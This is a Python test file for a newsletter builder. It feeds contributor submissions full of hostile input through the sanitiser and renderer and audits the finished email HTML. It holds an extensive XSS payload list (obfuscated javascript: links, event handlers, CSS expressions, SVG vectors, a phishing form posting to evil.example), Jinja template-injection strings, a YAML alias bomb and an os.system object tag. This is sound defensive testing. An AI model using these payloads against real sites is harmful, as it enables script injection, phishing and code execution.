"""Script injection: contributor content never reaches a partner's inbox in executable form.

Each payload goes into an item body and the whole email is built through the real Renderer
(Jinja2 -> MJML -> premailer); the finished HTML is then read with a real HTML parser
(html.parser, also inside Outlook's conditional comments) and must hold no active element,
no event handler, no link or source with a scheme other than http/https/mailto/#, and no
style that runs code or loads anything. Titles and other fields are text, never markup or
template syntax.
"""

from __future__ import annotations

import datetime as dt
import email
import email.policy
import json
import re
import shutil
from dataclasses import dataclass, field
from email.message import EmailMessage
from html.parser import HTMLParser
from pathlib import Path

import pytest
from click.testing import CliRunner
from hypothesis import given, settings
from hypothesis import strategies as st

from newsflash.cli import main
from newsflash.config import Config, load_config
from newsflash.content import ALLOWED_TAGS, render_markdown
from newsflash.edition import assemble
from newsflash.items import Item, load_items
from newsflash.pipeline import build_edition, check_items, write_build
from newsflash.render import Renderer

ROOT = Path(__file__).resolve().parent.parent
EDITION = "2022-02"

PAYLOADS: dict[str, str] = {
    # script elements
    "script_tag": "<script>alert('x')</script>",
    "script_tag_mixed_case": "<ScRiPt>alert(1)</sCrIpT>",
    "script_with_src": '<script src="https://evil.example/x.js"></script>',
    "script_broken_nesting": "<<script>alert(1)//<</script>",
    "script_in_conditional_comment": "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "script_in_cdata": "<![CDATA[<script>alert(1)</script>]]>",
    "script_in_noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    # event handlers
    "img_onerror": '<img src=x onerror="alert(1)">',
    "img_onerror_unquoted": "<img src=x onerror=alert(1)//>",
    "a_onclick": '<a href="https://example.org" onclick="alert(1)">x</a>',
    "a_onmouseover_upper_case": '<A HREF="https://example.org" ONMOUSEOVER="alert(1)">x</A>',
    "p_onmouseover_slash_separator": "<p/onmouseover=alert(1)>x</p>",
    "body_onload": '<body onload="alert(1)">x</body>',
    "details_ontoggle": "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "attribute_quote_breakout": '<a href="https://x.org" title="x" onmouseover="alert(1)">x</a>',
    # javascript: and friends in links
    "javascript_href": '<a href="javascript:alert(1)">x</a>',
    "javascript_href_mixed_case": '<a href="JaVaScRiPt:alert(1)">x</a>',
    "javascript_href_decimal_entity": '<a href="&#106;avascript:alert(1)">x</a>',
    "javascript_href_hex_entities": (
        '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>'
    ),
    "javascript_href_padded_entities": '<a href="&#0000106&#0000097vascript:alert(1)">x</a>',
    "javascript_href_tab_in_scheme": '<a href="jav\tascript:alert(1)">x</a>',
    "javascript_href_newline_in_scheme": '<a href="jav\nascript:alert(1)">x</a>',
    "javascript_href_entity_tab_in_scheme": '<a href="jav&#x09;ascript:alert(1)">x</a>',
    "javascript_href_entity_newline_in_scheme": '<a href="jav&#10;ascript:alert(1)">x</a>',
    "javascript_href_leading_space": '<a href=" javascript:alert(1)">x</a>',
    "javascript_href_leading_control_char": '<a href="\x01javascript:alert(1)">x</a>',
    "javascript_href_unquoted": "<a href=javascript:alert(1)>x</a>",
    "javascript_href_backticks": "<a href=`javascript:alert(1)`>x</a>",
    "javascript_href_colon_entity": '<a href="javascript&colon;alert(1)">x</a>',
    "vbscript_href": '<a href="vbscript:msgbox(1)">x</a>',
    "data_text_html_href": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0">x</a>',
    "file_href": '<a href="file:///etc/passwd">x</a>',
    # style
    "style_block": "<style>body{background:url(javascript:alert(1))}</style>",
    "style_block_import": "<style>@import 'https://evil.example/x.css';</style>",
    "style_attr_expression": '<p style="width:expression(alert(1))">x</p>',
    "style_attr_url_javascript": '<p style="background:url(javascript:alert(1))">x</p>',
    "style_attr_css_escape": '<p style="background:u\\72l(javascript:alert(1))">x</p>',
    "style_attr_comment_split": '<p style="width:expr/**/ession(alert(1))">x</p>',
    "style_attr_behavior_and_binding": '<p style="behavior:url(x.htc);-moz-binding:url(x#x)">x</p>',
    "link_stylesheet": '<link rel="stylesheet" href="https://evil.example/x.css">',
    # active or framing elements
    "iframe": '<iframe src="https://evil.example"></iframe>',
    "iframe_javascript_src": '<iframe src="javascript:alert(1)"></iframe>',
    "iframe_srcdoc": '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    "object": '<object data="https://evil.example/x.swf"></object>',
    "embed": '<embed src="https://evil.example/x.swf">',
    "svg_onload": "<svg onload=alert(1)><circle r=1 /></svg>",
    "svg_script": "<svg><script>alert(1)</script></svg>",
    "svg_animate_href": (
        "<svg><a><animate attributeName=href values=javascript:alert(1) />"
        "<text y=10>x</text></a></svg>"
    ),
    "math_xlink_href": '<math><maction xlink:href="javascript:alert(1)">x</maction></math>',
    "form_action": '<form action="javascript:alert(1)"><button>go</button></form>',
    "form_https_action": '<form action="https://evil.example/phish"><input name=pw></form>',
    "button_formaction": '<button formaction="javascript:alert(1)">go</button>',
    "input_autofocus_onfocus": '<input autofocus onfocus="alert(1)">',
    "meta_refresh": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "base_href": '<base href="javascript:alert(1)//">',
    "template_element": "<template><script>alert(1)</script></template>",
    # Markdown links and autolinks
    "markdown_javascript_link": "[x](javascript:alert(1))",
    "markdown_javascript_link_mixed_case": "[x](JaVaScRiPt:alert(1))",
    "markdown_javascript_link_entity": "[x](&#106;avascript:alert(1))",
    "markdown_javascript_link_percent": "[x](javascript%3Aalert(1))",
    "markdown_javascript_link_in_angles": "[x](<javascript:alert(1)>)",
    "markdown_javascript_reference_link": "[x][r]\n\n[r]: javascript:alert(1)",
    "markdown_vbscript_link": "[x](vbscript:msgbox(1))",
    "markdown_data_link": "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "markdown_link_title_breakout": '[x](https://example.org "a\\" onmouseover=\\"alert(1)")',
    "markdown_image_alt_breakout": '![x" onerror="alert(1)](https://example.org/i.png)',
    "markdown_image_javascript": "![x](javascript:alert(1))",
    "markdown_autolink_javascript": "<javascript:alert(1)>",
    "markdown_autolink_data": "<data:text/html,<script>alert(1)</script>>",
    "markdown_autolink_vbscript": "<vbscript:msgbox(1)>",
    "markdown_relative_link": "[x](/unsubscribe-everyone)",
    "markdown_protocol_relative_link": "[x](//evil.example/x)",
    # template syntax is text, never evaluated
    "jinja_syntax_in_body": "{{ config.__class__ }} {% for x in range(3) %}loop{% endfor %}",
}

URL_ATTRIBUTES = {
    "href", "src", "action", "formaction", "background", "poster", "xlink:href", "data",
    "srcset", "lowsrc", "dynsrc", "cite", "longdesc", "usemap", "srcdoc", "ping", "manifest",
}  # fmt: skip
FORBIDDEN_TAGS = {
    "script", "iframe", "frame", "frameset", "object", "embed", "applet", "form", "input",
    "button", "textarea", "select", "svg", "math", "base", "link", "template", "portal",
    "animate", "set", "maction",
}  # fmt: skip
ALLOWED_URL = re.compile(r"^(https?://|mailto:|#)", re.IGNORECASE)
CODE_IN_CSS = re.compile(r"expression\(|javascript:|vbscript:|behavior:|-moz-binding|@import")
CSS_URL = re.compile(r"url\((?!['\"]?https://)", re.IGNORECASE)


def css_normalised(css: str) -> str:
    """Undo the tricks a browser would undo: comments, escapes, whitespace, case."""
    css = re.sub(r"/\*.*?\*/", "", css, flags=re.S)
    css = re.sub(r"\\([0-9a-fA-F]{1,6})\s?", lambda m: chr(int(m.group(1), 16)), css)
    return re.sub(r"[\s\\]", "", css).lower()


@dataclass
class Audit(HTMLParser):
    """Everything in an HTML document that could run code or load something."""

    findings: list[str] = field(default_factory=list)
    tags: set[str] = field(default_factory=set)
    attributes: set[str] = field(default_factory=set)
    texts: list[str] = field(default_factory=list)
    _in_style: bool = False

    def __post_init__(self) -> None:
        super().__init__(convert_charrefs=True)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        if tag in FORBIDDEN_TAGS:
            self.findings.append(f"<{tag}> element")
        if tag == "style":
            self._in_style = True
        for name, value in attrs:
            value = value or ""
            self.attributes.add(name)
            if name.startswith("on"):
                self.findings.append(f"<{tag} {name}=...> event handler")
            if name in URL_ATTRIBUTES and not ALLOWED_URL.match(value.strip()):
                self.findings.append(f"<{tag} {name}={value!r}> scheme not http/https/mailto/#")
            if name == "style":
                css = css_normalised(value)
                if CODE_IN_CSS.search(css) or CSS_URL.search(css):
                    self.findings.append(f"<{tag} style={value!r}> runs code or loads a URL")
            if tag == "meta" and name == "http-equiv" and value.lower() == "refresh":
                self.findings.append("<meta http-equiv=refresh>")

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)
        self.handle_endtag(tag)

    def handle_endtag(self, tag: str) -> None:
        if tag == "style":
            self._in_style = False

    def handle_data(self, data: str) -> None:
        if self._in_style:
            css = css_normalised(data)
            if CODE_IN_CSS.search(css) or CSS_URL.search(css):
                self.findings.append(f"<style> block runs code or loads a URL: {data[:80]!r}")
        else:
            self.texts.append(data)

    def handle_comment(self, data: str) -> None:
        # Outlook reads markup inside conditional comments: audit it as HTML too.
        inner = re.sub(r"^\[if [^\]]*\]>|<!\[endif\]$", "", data.strip())
        nested = Audit()
        nested.feed(inner)
        nested.close()
        self.findings.extend(f"in a comment: {f}" for f in nested.findings)
        if "alert(" in data:
            self.findings.append(f"contributor content in a comment: {data[:80]!r}")


def audit(html: str) -> Audit:
    a = Audit()
    a.feed(html)
    a.close()
    return a


def text_of(html: str) -> str:
    return " ".join(" ".join(audit(html).texts).split())


@pytest.fixture(scope="module")
def sample(tmp_path_factory: pytest.TempPathFactory) -> tuple[Config, Renderer, list[Item]]:
    """A read-only copy of the sample newsletter, its renderer and its valid items."""
    root = tmp_path_factory.mktemp("sample")
    for name in ("config.toml", "subscribers.csv"):
        shutil.copy(ROOT / name, root / name)
    shutil.copytree(ROOT / "submissions", root / "submissions")
    config = load_config(root / "config.toml")
    items = list(load_items(config.submissions_dir, config.section_keys).items)
    return config, Renderer(config), items


def sentinel(name: str) -> str:
    return f"Sentinel paragraph of {name.replace('_', ' ')}."


def item_for(name: str, payload: str) -> Item:
    """An item whose body went through the same Markdown + sanitiser as a contributor's."""
    body = f"{sentinel(name)}\n\n{payload}\n\nAfter the payload."
    rendered = render_markdown(body)
    return Item(
        key=f"evil/{name}.md",
        sha256="0" * 64,
        title=f"Item carrying {name}",
        section="wg1",
        date=dt.date(2022, 2, 3),
        edition=EDITION,
        body_html=rendered.html,
        body_text=rendered.text,
        anchor=f"item-{name.replace('_', '-')}",
    )


def test_sample_email_passes_the_audit(sample: tuple[Config, Renderer, list[Item]]) -> None:
    config, renderer, items = sample
    html = renderer.render(assemble(config, EDITION, items)).html
    assert audit(html).findings == []


@pytest.mark.parametrize("name", sorted(PAYLOADS))
def test_payload_in_item_body_never_reaches_the_email_in_executable_form(
    name: str, sample: tuple[Config, Renderer, list[Item]]
) -> None:
    """The sanitiser alone, as if validation had let the file through."""
    config, renderer, items = sample
    edition = assemble(config, EDITION, [*items, item_for(name, PAYLOADS[name])])
    for web in (False, True):
        email_ = renderer.render(edition, web=web)
        found = audit(email_.html)
        assert found.findings == [], name
        assert sentinel(name) in text_of(email_.html)  # the item really was rendered
        assert not {t for t in found.tags if t not in ALLOWED_TAGS} & FORBIDDEN_TAGS
        assert email_.ok, [c for c in email_.checks if c.level == "error"]


def test_every_payload_at_once_in_item_files_builds_a_clean_email(workspace: Path) -> None:
    """End to end: files in submissions/ -> check -> build -> email.html and preview.eml."""
    folder = workspace / "submissions" / "evil"
    folder.mkdir()
    for name, payload in PAYLOADS.items():
        (folder / f"{name}.md").write_text(
            f"---\ntitle: Item carrying {name}\nsection: wg2\ndate: 2022-02-03\n---\n"
            f"{sentinel(name)}\n\n{payload}\n",
            encoding="utf-8",
        )
    config = load_config(workspace / "config.toml")

    build = build_edition(config, EDITION)
    # 75 items pass Gmail's clipping size; every other check (links, alt text) must pass.
    out = write_build(config, build, allow_clip=True)

    html = (out / "email.html").read_text(encoding="utf-8")
    assert audit(html).findings == []
    message = email.message_from_bytes(
        (out / "preview.eml").read_bytes(), policy=email.policy.default
    )
    assert isinstance(message, EmailMessage)
    html_part = message.get_body(("html",))
    assert html_part is not None
    assert audit(html_part.get_content()).findings == []
    # Nothing is dropped silently: every payload file is in the email or left out with a reason.
    included = {i.key for i in build.edition.items}
    left_out = {lo.key: lo.reason for lo in build.edition.left_out}
    text = text_of(html)
    for name in PAYLOADS:
        key = f"evil/{name}.md"
        if key in included:
            assert sentinel(name) in text, name
        else:
            assert left_out[key].startswith("invalid: "), name
    # Links the sanitiser would silently drop are reported to the contributor instead.
    for name in ("javascript_href_tab_in_scheme", "markdown_javascript_link", "vbscript_href",
                 "markdown_relative_link", "form_action", "data_text_html_href"):  # fmt: skip
        assert f"evil/{name}.md" in left_out, name


HOSTILE_FIELDS = {
    "title": '<b>Bold</b> " onmouseover="alert(1) {{ 7 * 7 }} {% if true %}JINJA{% endif %}',
    "organisation": "<i>Org</i> ' onclick='alert(2) {{ config }}",
    "author": "{# comment #}<script>alert(3)</script>",
    "link_text": '" onfocus="alert(4) {{ 6 * 7 }}',
    "image_alt": "\" onerror='alert(5)' <b>x</b>",
    "summary": "<script>alert(6)</script> {{ 8 * 8 }}",
}


def hostile_item_file(edition: str) -> str:
    quoted = "".join(
        f"{k}: '{v.replace(chr(39), chr(39) * 2)}'\n" for k, v in HOSTILE_FIELDS.items()
    )
    return (
        f'---\n{quoted}section: wg1\ndate: 2022-02-03\nedition: "{edition}"\n'
        "link: https://example.org/more\nimage: https://example.org/picture.png\n---\nText.\n"
    )


@pytest.mark.parametrize("edition", [EDITION, "2022-04"])  # 2022-04: preheader from titles
def test_titles_and_fields_with_html_or_jinja_syntax_are_escaped_not_interpreted(
    workspace: Path, edition: str
) -> None:
    (workspace / "submissions" / "hostile.md").write_text(
        hostile_item_file(edition), encoding="utf-8"
    )
    config = load_config(workspace / "config.toml")
    build = build_edition(config, edition)
    assert "hostile.md" in {i.key for i in build.edition.items}, build.load.problems
    html = build.email.html

    found = audit(html)
    assert found.findings == []
    assert "b" not in found.tags and "i" not in found.tags  # no <b>Bold</b> from the title
    text = text_of(html)
    for value in (
        HOSTILE_FIELDS["title"],
        HOSTILE_FIELDS["organisation"],
        HOSTILE_FIELDS["link_text"],
    ):
        assert value in text  # shown literally, braces and all
    for evaluated in ("49", "42", "JINJA{% endif"):
        assert evaluated not in text.replace(HOSTILE_FIELDS["title"], "")
    assert f'alt="{HOSTILE_FIELDS["image_alt"]}"'.replace('"', "") not in html  # no breakout
    img_alts = re.findall(r"<img [^>]*>", html)
    assert img_alts, "the item's image is shown"
    # The plain-text part shows the same literal title, not an evaluated template (wrapped
    # to 78 columns, so compared with its line breaks as spaces).
    plain = " ".join(build.email.text.split())
    assert HOSTILE_FIELDS["title"] in plain
    assert "49" not in plain.replace(HOSTILE_FIELDS["title"], "")


def test_image_alt_with_quotes_stays_inside_its_attribute(workspace: Path) -> None:
    (workspace / "submissions" / "hostile.md").write_text(
        hostile_item_file(EDITION), encoding="utf-8"
    )
    config = load_config(workspace / "config.toml")
    html = build_edition(config, EDITION).email.html

    alts: list[str | None] = []

    class Images(HTMLParser):
        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            if tag == "img" and dict(attrs).get("src") == "https://example.org/picture.png":
                alts.append(dict(attrs).get("alt"))  # the item's, not the logo or the cover

    Images(convert_charrefs=True).feed(html)
    assert alts == [HOSTILE_FIELDS["image_alt"]]


fragments = st.lists(
    st.one_of(
        st.sampled_from(sorted(PAYLOADS.values())),
        st.sampled_from(
            [
                "<",
                ">",
                '"',
                "'",
                "=",
                "javascript:",
                "&#",
                ";",
                "\t",
                "\n",
                "(",
                ")",
                "on",
                "href",
                "<a ",
                "<img ",
                "style=",
                "url(",
                "[x](",
                "](",
                "`",
            ]
        ),
        st.text(max_size=10),
    ),
    max_size=12,
).map("".join)


@settings(max_examples=200, deadline=None)
@given(fragments)
def test_sanitised_body_only_holds_allowed_tags_and_safe_links(source: str) -> None:
    html = render_markdown(source).html
    found = audit(html)
    assert found.findings == []
    assert found.tags <= ALLOWED_TAGS
    assert found.attributes <= {"href", "title", "rel"}


# A fuzzed drop folder: hostile item files of every kind at once. None gives a traceback,
# none blocks the good items, and `check` and the build agree on every file.


def _front(title: str, extra: str = "", body: str = "Text.\n") -> bytes:
    return (f"---\ntitle: {title}\nsection: wg2\ndate: 2022-02-03\n{extra}---\n{body}").encode(
        "utf-8", "surrogatepass"
    )


_LEVELS = ["&a [x, x, x, x, x, x, x, x, x]"] + [
    f"&{n} [" + ", ".join([f"*{p}"] * 9) + "]" for p, n in zip("abcdefgh", "bcdefghi", strict=True)
]
_BOMB = "[" + ", ".join(_LEVELS) + "]"  # a billion x's if expanded
_INJECT = {
    "mjml": "</mj-text></mj-column></mj-section><mj-raw><script>alert(1)</script></mj-raw>",
    "jinja": "{{ config.__class__ }} {% for x in range(9) %}loop{% endfor %} {# c #}",
    "cdata": "<![CDATA[ ]]> ]]> &amp; &#0; &#x0B; &#xFFFE; &bogus; <!-- -->",
}


def _in_every_field(kind: str) -> bytes:
    value = json.dumps(f"{kind} {_INJECT[kind]}", ensure_ascii=False)
    extra = "".join(
        f"{k}: {value}\n" for k in ("author", "organisation", "summary", "link_text", "image_alt")
    )
    extra += "link: https://example.org/more\nimage: https://example.org/i.png\n"
    return _front(value, extra, body=f"{_INJECT[kind]}\n")


HOSTILE_FILES: dict[str, bytes] = {
    "yaml_syntax_error.md": _front("a: b: c"),
    "yaml_alias_bomb_in_title.md": _front(_BOMB),
    "yaml_merge_key_anchor.md": b"---\nbase: &b {title: T}\n<<: *b\nsection: wg2\n---\nx\n",
    "yaml_python_object_tag.md": _front("!!python/object/apply:os.system ['true']"),
    "yaml_deep_nesting.md": _front("[" * 3000 + "]" * 3000),
    "yaml_surrogate_escape.md": _front('"\\ud800 lone"'),
    "not_utf8_latin1.md": "---\ntitle: Café\nsection: wg2\n---\n".encode("latin-1"),
    "utf16_with_bom.md": _front("UTF-16").decode().encode("utf-16"),
    "utf8_bom_valid.md": b"\xef\xbb\xbf" + _front("With a BOM", 'edition: "2022-02"\n'),
    "two_boms.md": "\ufeff\ufeff".encode() + _front("Two BOMs"),
    "binary_png.md": b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)),
    "binary_without_nul.md": bytes(range(0x80, 0x100)) * 4,
    "empty.md": b"",
    "whitespace_only.md": b" \n\t\n",
    "front_matter_only.md": _front("Front matter only", 'edition: "2022-02"\n', body=""),
    "front_matter_unclosed.md": b"---\ntitle: T\nsection: wg2\n",
    "fences_only.md": b"---\n---\n",
    "giant_body.md": _front("Giant body", body="A sentence of the giant body. " * 12000),
    "giant_title.md": _front("T" * 200_000),
    "script_style_iframe_body.md": _front(
        "Script style iframe",
        body="<script>alert(1)</script><style>*{x:expression(1)}</style>"
        "<iframe src='https://evil.example'></iframe>\n",
    ),
    "javascript_link_body.md": _front("JS link", body="[x](javascript:alert(1))\n"),
    "javascript_link_field.md": _front("JS field", "link: javascript:alert(1)\n"),
    "data_uri_image_field.md": _front(
        "Data image", "image: data:image/png;base64,AAAA\nimage_alt: x\n"
    ),
    "data_uri_link_body.md": _front("Data link", body="[x](data:text/html,<script>x</script>)\n"),
    "mailto_without_address_field.md": _front("Mailto", "link: mailto:wg2\n"),
    "mjml_injection_in_every_field.md": _in_every_field("mjml"),
    "jinja_injection_in_every_field.md": _in_every_field("jinja"),
    "cdata_and_entities_in_every_field.md": _in_every_field("cdata"),
    "control_characters_everywhere.md": _front(
        '"Ctrl \\x01\\x0b\\x1b[31m title"',
        'author: "A\\x00"\nlink_text: "R\\x7f"\nlink: https://example.org/c\n',
        body="Bell\x07 vertical\x0b escape\x1b[31m <b title='&#x0B;'>x</b>\n",
    ),
    "mixed_line_endings.md": (
        b"---\r\ntitle: Mixed endings\rsection: wg2\ndate: 2022-02-03\r\n---\rx\n"
    ),
    "nul_in_the_middle.md": _front("NUL", body="a\x00b\n"),
    "not_an_item.html": b"<script>alert(1)</script>",
}


def test_a_fuzzed_drop_folder_gives_no_traceback_blocks_no_good_item_and_check_agrees_with_build(
    workspace: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    folder = workspace / "submissions" / "hostile"
    folder.mkdir()
    for name, data in HOSTILE_FILES.items():
        (folder / name).write_bytes(data)
    config = load_config(workspace / "config.toml")
    good = {i.key for i in build_edition(load_config(ROOT / "config.toml"), EDITION).edition.items}

    monkeypatch.chdir(workspace)
    monkeypatch.setenv("COLUMNS", "200")
    checked = CliRunner().invoke(main, ["check"])
    built = CliRunner().invoke(main, ["build", EDITION])

    for result in (checked, built):
        assert result.exit_code == 1, result.output  # item errors, reported, not raised
        assert "Traceback" not in result.output
        assert isinstance(result.exception, SystemExit), result.output
    html = (workspace / "build" / EDITION / "email.html").read_text(encoding="utf-8")
    assert audit(html).findings == []
    build = build_edition(config, EDITION)
    assert build.email.ok
    included = {i.key for i in build.edition.items}
    assert good <= included  # every good item of the sample is in the email
    # check and the build agree on every hostile file: an error in one is a leave-out in the other
    refused = {p.path for p in check_items(config).errors}
    invalid = {lo.key for lo in build.edition.left_out if lo.reason.startswith("invalid: ")}
    assert refused == invalid
    for name in HOSTILE_FILES:
        key = f"hostile/{name}"
        if name.endswith(".md"):
            assert (key in refused) != (key in included), key
            assert key in checked.output or key in included, key
    assert {f"hostile/{n}" for n in ("giant_body.md", "giant_title.md")} <= refused
    for name in ("mjml_injection_in_every_field.md", "jinja_injection_in_every_field.md",
                 "cdata_and_entities_in_every_field.md", "control_characters_everywhere.md",
                 "utf8_bom_valid.md", "front_matter_only.md"):  # fmt: skip
        assert f"hostile/{name}" in included, name
    assert "loop" not in text_of(html).replace("loop{% endfor %}", "")
